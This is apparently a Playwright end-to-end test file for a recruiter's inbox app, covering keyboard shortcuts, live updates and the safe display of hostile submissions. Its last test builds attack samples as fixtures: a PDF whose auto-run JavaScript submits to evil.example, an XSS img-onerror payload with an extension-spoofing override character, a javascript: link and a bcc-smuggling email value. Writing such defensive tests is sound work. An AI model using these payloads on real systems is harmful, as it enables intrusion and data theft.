import type { Page } from '@playwright/test';
import { DEFAULT_DESK } from '../../contract/desk.ts';
import type { SubmissionRecord } from '../../intake/store/record.ts';
import { FLAG } from '../../operator/desk/page/meanings.ts';
import { DOCUMENTS, FIGURES, KEYS, LIST, RECORD } from '../../operator/desk/page/words.ts';
import { docOf, docxOf, pdfWith } from '../fixtures/documents.ts';
import { fieldsOf, save } from '../fixtures/records.ts';
import { arrive, expect, keep, RECRUITER, record, rows, test } from './desk.ts';

/** Longer than a submission has to be open before it counts as seen. */
const A_MOMENT_MS = 2500;

/** The second stage; its key is 2. */
const [, TALKS] = DEFAULT_DESK.stages;

const stageOf = (page: Page) => record(page).getByRole('radio', { checked: true });

/** A PDF with scripts for when the document opens and closes, and for when its page opens. */
function scriptedPdf(): Uint8Array {
  const script =
    '<< /S /JavaScript /JS (app.alert("ran"); this.submitForm("http://evil.example/");) >>';
  return pdfWith([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O ${script} >> /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`,
    '<< /Length 42 >>\nstream\nBT /F1 18 Tf 20 100 Td (Hello desk) Tj ET  \nendstream',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

test('[X18] [X26] the inbox by keyboard: read, tag, note, search, undo', async ({ page, desk }) => {
  await page.clock.install();
  const receipts: string[] = [];
  for (const name of ['Ada', 'Bea', 'Cyd']) receipts.unshift(await arrive(desk, name));
  await expect(rows(page)).toHaveCount(3);

  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText('Bea Lovelace');
  await expect(page).toHaveURL(new RegExp(`#/inbox/${receipts[1]}$`));
  const inStore = <T>(read: (each: SubmissionRecord | undefined) => T) =>
    Promise.all(
      receipts.map(async (receipt) => read(await desk.test.store.records.record(receipt))),
    );
  const seen = () => inStore((each) => each?.seenAt !== undefined);
  // Passing by is not seeing, and standing still for a moment is. The page's clock may run before
  // the page has begun to wait.
  await expect(async () => {
    await page.clock.runFor(A_MOMENT_MS);
    expect(await seen()).toEqual([false, true, false]);
  }).toPass();
  await page.keyboard.press('U');
  await expect.poll(seen).toEqual([false, false, false]);
  await page.keyboard.press('Enter');
  await expect.poll(seen).toEqual([false, true, false]);

  await page.keyboard.press('2');
  await expect(page.getByText(RECORD.staged(TALKS?.name ?? ''))).toBeVisible();
  await expect(stageOf(page)).toHaveAccessibleName(TALKS?.name ?? '');
  await page.keyboard.press('m');
  await expect(page.getByText(RECORD.given(RECRUITER))).toBeVisible();
  await page.keyboard.press('n');
  await page.keyboard.type('Call her on Monday');
  await page.keyboard.press('Control+Enter');
  await expect(record(page).getByRole('listitem').getByText('Call her on Monday')).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(record(page).getByText(RECRUITER, { exact: true })).toBeVisible();
  await page.clock.runFor(A_MOMENT_MS);

  // Undo takes back what was done last, one act at a time.
  await page.keyboard.press('u');
  await expect
    .poll(() => inStore((each) => each?.notes))
    .toEqual([[], [expect.objectContaining({ text: '', by: RECRUITER })], []]);
  await expect(record(page).getByRole('button', { name: RECORD.noteEdit })).toHaveCount(0);
  await page.keyboard.press('n');
  await page.keyboard.type('Call her on Monday');
  await page.keyboard.press('Control+Enter');
  await expect(record(page).getByRole('listitem').getByText('Call her on Monday')).toBeVisible();
  await page.keyboard.press('Escape');

  await page.keyboard.press('/');
  await page.keyboard.type('monday');
  await page.clock.runFor(A_MOMENT_MS);
  await expect(rows(page)).toHaveCount(1);
  await page.keyboard.press('Escape');
  await page.keyboard.press('Escape');
  await page.clock.runFor(A_MOMENT_MS);
  await expect(rows(page)).toHaveCount(3);

  await page.keyboard.press('g');
  await page.keyboard.press('p');
  await expect(page.getByRole('heading', { name: FIGURES.title })).toBeVisible();
  await page.goBack();
  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText('Bea Lovelace');
  await page.keyboard.press('?');
  await expect(page.getByRole('dialog', { name: KEYS.title })).toBeVisible();
});

test('[X18] new submissions appear live without moving what is being read', async ({
  page,
  desk,
}) => {
  await expect(page.getByText(LIST.empty.inbox.title)).toBeVisible();
  for (let index = 0; index < 30; index++) await arrive(desk, `Ada${index}`);
  await expect(page.getByText('Ada29 Lovelace')).toBeVisible();

  const read = page.getByRole('link', { name: /Ada15 / });
  const list = page.getByRole('list').filter({ has: page.getByRole('link', { name: /Lovelace/ }) });
  await list.locator('..').evaluate((element) => element.scrollTo(0, 12 * 88));
  await expect(read).toBeInViewport();
  const before = await read.boundingBox();
  for (const name of ['Eve', 'Fay', 'Gil']) await arrive(desk, name);
  await page.getByRole('button', { name: LIST.arrived(3) }).waitFor();
  expect(await read.boundingBox()).toEqual(before);

  await page.getByRole('button', { name: LIST.arrived(3) }).click();
  await expect(page.getByText('Gil Lovelace')).toBeInViewport();
});

test('[X18] a visitor’s text stays text, and documents can’t run code', async ({ page, desk }) => {
  const files = [
    await keep(desk, scriptedPdf(), { flags: ['active-content'] }),
    await keep(desk, docxOf('Nine years of shaders'), { kind: 'docx', name: 'cv.docx' }),
    await keep(desk, docOf('Ten years of engines'), { kind: 'doc', name: 'cv.doc' }),
  ];
  const firstname = '<img src=x onerror=alert(1)>\u202Efdp.';
  const linkedin = 'javascript:alert(1)';
  const fields = fieldsOf('jobseeking', {
    firstname,
    linkedin,
    email: 'a@b.co?bcc=x@evil.example',
  });
  const receipt = await save(desk.test, { fields, files });
  page.on('dialog', () => expect(page.url()).toBe('no dialog'));

  await page.goto(`/#/inbox/${receipt}`);
  await expect(record(page).getByRole('heading', { level: 1 })).toHaveText(
    `${firstname.replace('\u202E', '')} Lovelace`,
  );
  await expect(record(page).getByText(linkedin)).toBeVisible();
  await expect(record(page).locator('a[href^="javascript"], a[href^="mailto"]')).toHaveCount(0);
  await expect(record(page).getByText('Hello desk')).toBeAttached();
  await expect(record(page).getByText(FLAG['active-content'])).toBeVisible();
  for (const [name, words] of [
    ['cv.docx', 'Nine years of shaders'],
    ['cv.doc', 'Ten years of engines'],
  ] as const) {
    await record(page).getByRole('button', { name, exact: true }).click();
    const text = page.frameLocator(`iframe[title="${DOCUMENTS.frame(name)}"]`);
    await expect(text.getByText(words)).toBeVisible();
  }
});
